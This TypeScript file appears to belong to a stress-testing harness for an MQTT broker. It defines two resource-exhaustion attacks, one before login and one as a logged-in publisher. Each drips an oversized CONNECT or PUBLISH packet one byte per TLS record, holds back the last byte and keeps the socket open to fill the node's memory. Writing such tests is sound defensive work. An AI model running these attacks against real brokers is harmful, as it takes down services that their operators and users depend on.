import type { TLSSocket } from 'node:tls'
import { connectPacket, publishPacket } from '../load/packets.ts'
import { type Assault, type Attack, createAssault, nextChunk } from './attack.ts'

/** How long a packet waits for its last byte, milliseconds, to fill the node's memory. */
const holdMs = 3_000

/** An anonymous client sends a CONNECT of 64 kB in TLS records of one byte. */
export const recordsBeforeLogin: Attack = (target, force) => {
  const assault = createAssault(force)
  const packet = connectPacket('x'.repeat(200), true, { username: 'x'.repeat(64_000), password: 'x' })
  return assault.everywhere(async (worker) => {
    const socket = await assault.connect(target.mqttPort, worker)
    if (!socket) return
    await drip(assault, socket, packet)
    await assault.hold(socket, holdMs)
    assault.leave(socket)
  })
}

/** A logged-in publisher sends a PUBLISH of 400 kB in TLS records of one byte. */
export const recordsInPublish: Attack = (target, force) => {
  const assault = createAssault(force)
  const [livestream] = target.livestreams
  const topic = `inbox/${livestream?.institution.id}`
  const packet = publishPacket(topic, 1, Buffer.alloc(400_000, ' '))
  return assault.everywhere(async (worker) => {
    const socket = await assault.connect(target.mqttPort, worker)
    if (!socket) return
    await assault.write(socket, connectPacket(`records-${worker}`, true, target.publisher))
    const connack = await nextChunk(socket)
    assault.answered(`CONNACK ${connack?.[3]}`)
    if (connack?.[3] === 0) {
      await drip(assault, socket, packet)
      await assault.hold(socket, holdMs)
    }
    assault.leave(socket)
  })
}

/** Sends a packet without its last byte. Waiting for each write gives each byte a TLS record of its own. */
function drip(assault: Assault, socket: TLSSocket, packet: Buffer): Promise<void> {
  return new Promise((resolve) => {
    let at = 0
    const next = (error?: Error | null) => {
      if (error || at >= packet.length - 1 || socket.destroyed || assault.isOver()) return settle()
      assault.seen.bytes++
      assault.seen.units++
      socket.write(packet.subarray(at, ++at), next)
    }
    const settle = () => {
      socket.off('close', settle)
      resolve()
    }
    socket.on('close', settle)
    next()
  })
}
